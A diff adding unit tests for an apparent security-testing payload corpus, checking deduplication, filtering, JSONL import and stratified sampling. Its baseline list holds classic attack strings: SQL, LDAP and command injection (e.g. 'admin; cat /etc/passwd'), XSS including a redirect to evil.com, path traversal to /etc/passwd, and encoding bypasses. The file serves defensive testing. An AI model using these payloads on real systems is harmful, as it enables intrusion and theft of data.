@@ -0,0 +1,181 @@
+"""
+Unit tests for the indexed security payload corpus.
+"""
+
+import json
+
+import pytest
+
+from utils.payload_corpus import PayloadCorpus, normalize
+from utils.security_payloads import SecurityPayloads
+
+# Payloads the security tests hard-coded before they sampled the corpus
+BASELINE_PAYLOADS = [
+    # test_sql_injection_basic_or
+    "admin' OR '1'='1",
+    "admin' OR '1'='1' --",
+    "admin' OR '1'='1' #",
+    "admin' OR 1=1 --",
+    "' OR '1'='1",
+    "' OR 1=1 --",
+    "admin'/**/OR/**/1=1",
+    # test_sql_injection_union_attacks
+    "admin' UNION SELECT 1,2,3 --",
+    "admin' UNION SELECT NULL,NULL,NULL --",
+    "admin' UNION ALL SELECT 1,2,3 --",
+    "' UNION SELECT username,password FROM users --",
+    "admin' UNION SELECT @@version --",
+    # test_sql_injection_time_based
+    "admin'; WAITFOR DELAY '00:00:05' --",
+    "admin' AND (SELECT COUNT(*) FROM sysobjects) > 0 WAITFOR DELAY '00:00:05' --",
+    "admin'; SELECT SLEEP(5) --",
+    "admin' AND SLEEP(5) --",
+    "admin'; pg_sleep(5) --",
+    # test_sql_injection_error_based
+    "admin' AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT version()), 0x7e)) --",
+    "admin' AND (SELECT * FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x "
+    "FROM information_schema.tables GROUP BY x)a) --",
+    "admin' AND 1=CONVERT(int,(SELECT @@version)) --",
+    "admin' AND 1=CAST((SELECT @@version) AS int) --",
+    # test_xss_script_injection
+    "<script>alert('XSS')</script>",
+    "<script>document.location='http://evil.com'</script>",
+    "<img src=x onerror=alert('XSS')>",
+    "<svg onload=alert('XSS')>",
+    "javascript:alert('XSS')",
+    "<iframe src=javascript:alert('XSS')></iframe>",
+    "<body onload=alert('XSS')>",
+    "<input onfocus=alert('XSS') autofocus>",
+    # test_xss_attribute_injection
+    '" onmouseover="alert(\'XSS\')"',
+    "' onclick='alert(\"XSS\")'",
+    '" autofocus onfocus="alert(\'XSS\')"',
+    "' style='expression(alert(\"XSS\"))'",
+    '" href="javascript:alert(\'XSS\')"',
+    # test_ldap_injection
+    "admin)(&)",
+    "admin)(|(objectClass=*))",
+    "admin))(|(objectClass=*",
+    "*)(&(objectClass=*",
+    "admin)(&(objectClass=*)(objectClass=*))",
+    # test_command_injection
+    "admin; cat /etc/passwd",
+    "admin && dir",
+    "admin | whoami",
+    "admin`id`",
+    "admin$(whoami)",
+    "admin; ls -la",
+    "admin & net user",
+    "admin || ping 127.0.0.1",
+    # test_path_traversal
+    "../../../etc/passwd",
+    "..\\..\\..\\windows\\system32\\drivers\\etc\\hosts",
+    "....//....//....//etc/passwd",
+    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
+    "..%252f..%252f..%252fetc%252fpasswd",
+    "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
+    # test_format_string_injection
+    "%s%s%s%s%s%s%s%s%s%s%s%s",
+    "%x%x%x%x%x%x%x%x%x%x%x%x",
+    "%n%n%n%n%n%n%n%n%n%n%n%n",
+    "%08x.%08x.%08x.%08x.%08x",
+    "AAAA%08x.%08x.%08x.%08x.%08x",
+    # test_null_byte_injection
+    "admin\x00",
+    "admin%00",
+    "admin\x00password",
+    "admin%00.txt",
+    "admin\x00\x00\x00",
+    # test_encoding_bypass
+    "%27%20OR%20%271%27%3D%271",
+    "%3Cscript%3Ealert%28%27XSS%27%29%3C/script%3E",
+    "%2527%2520OR%2520%25271%2527%253D%25271",
+    "' OR '1'='1",
+    "&#39; OR &#39;1&#39;=&#39;1",
+    "&lt;script&gt;alert(&#39;XSS&#39;)&lt;/script&gt;",
+]
+
+
+@pytest.fixture
+def corpus():
+    """Corpus seeded with the built-in payloads."""
+    corpus = PayloadCorpus()
+    corpus.seed_builtin()
+    yield corpus
+    corpus.close()
+
+
+@pytest.mark.unit
+class TestPayloadCorpus:
+    """Test cases for deduplication, filtering, streaming and sampling."""
+
+    def test_dedupes_by_normalized_form_per_category(self, corpus):
+        """Test that equivalent payloads are stored once per category."""
+        assert normalize("  ' OR  'A'='A'\t") == "' OR 'A'='A'"
+        assert not corpus.add("'  OR '1'='1 ", "sql_injection", "basic_or")
+        assert corpus.add("' OR '1'='1", "xss")
+        # ")(&)" appears twice in SecurityPayloads.LDAP_INJECTION
+        assert corpus.count(category="ldap_injection") == len(
+            set(SecurityPayloads.LDAP_INJECTION)
+        )
+
+    def test_case_variations_are_distinct(self, corpus):
+        """Test that case-variation bypasses are not deduplicated away."""
+        assert corpus.add("' UnIoN SELECT 1,2,3 --", "sql_injection", "union")
+        assert corpus.add("<ScRiPt>alert('XSS')</ScRiPt>", "xss", "script_tags")
+
+    def test_builtin_corpus_covers_former_hard_coded_payloads(self, corpus):
+        """Test that moving the security tests onto the corpus dropped no payload."""
+        missing = set(BASELINE_PAYLOADS) - set(corpus.payloads())
+
+        assert not missing
+
+    def test_filters_by_indexed_columns_and_tags(self, corpus):
+        """Test filtering by category, subcategory, encoding and tag."""
+        assert (
+            corpus.payloads(category="sql_injection", subcategory="union")[0]
+            == "' UNION SELECT 1,2,3 --"
+        )
+        assert corpus.count(encoding="double_url_encoded") == 2
+        assert set(corpus.payloads(tag="critical", category="ldap_injection")) == set(
+            SecurityPayloads.LDAP_INJECTION[:3]
+        )
+        with pytest.raises(ValueError):
+            corpus.count(severity="high")
+
+    def test_import_jsonl_streams_records(self, corpus, tmp_path):
+        """Test that JSONL records are imported with metadata and deduplicated."""
+        path = tmp_path / "payloads.jsonl"
+        records = [
+            {
+                "payload": "admin'--",
+                "category": "sql_injection",
+                "subcategory": "comment",
+                "tags": ["auth"],
+                "target_field": "username",
+            },
+            {
+                "payload": "' OR 1=1 --",
+                "category": "sql_injection",
+                "subcategory": "basic_or",
+            },
+        ]
+        path.write_text("\n".join(json.dumps(record) for record in records) + "\n")
+
+        assert corpus.import_jsonl(str(path)) == 1
+        entry = next(corpus.iter(tag="auth"))
+        assert (entry.payload, entry.target_field, entry.tags) == (
+            "admin'--",
+            "username",
+            ("auth",),
+        )
+
+    def test_stratified_sample_is_reproducible(self, corpus):
+        """Test that sampling covers every stratum and depends only on the seed."""
+        sample = corpus.sample(2, category="sql_injection", seed=7)
+
+        strata = corpus.strata(category="sql_injection")
+        assert len(sample) == 2 * len(strata)
+        assert {entry.subcategory for entry in sample} == set(strata)
+        assert sample == corpus.sample(2, category="sql_injection", seed=7)
+        assert sample != corpus.sample(2, category="sql_injection", seed=8)